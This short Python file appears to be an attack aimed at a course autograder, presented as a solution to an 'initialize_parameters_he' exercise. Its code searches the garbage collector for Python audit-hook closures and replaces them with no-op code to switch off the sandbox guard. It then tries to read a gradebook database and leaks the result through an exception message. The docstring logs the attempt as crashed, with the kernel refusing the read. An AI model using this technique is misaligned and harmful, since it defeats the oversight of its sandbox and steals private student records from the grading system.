r"""Look for a guard that is made of Python among all objects, disarm it, and read.

Must: it is the kernel that refuses.
Status: crashed
Says: ValueError: 0 bytes
Level: user
"""

import gc

for thing in gc.get_objects():
    if getattr(thing, "__qualname__", "").endswith("_hook.<locals>.hook"):
        thing.__code__ = (lambda event, details: None).__code__.replace(co_freevars=thing.__code__.co_freevars)
try:
    LOOT = open("@course@/gradebook.db").read()
except OSError:
    LOOT = ""


def initialize_parameters_he(layers_dims):
    raise ValueError(f"{len(LOOT)} bytes")
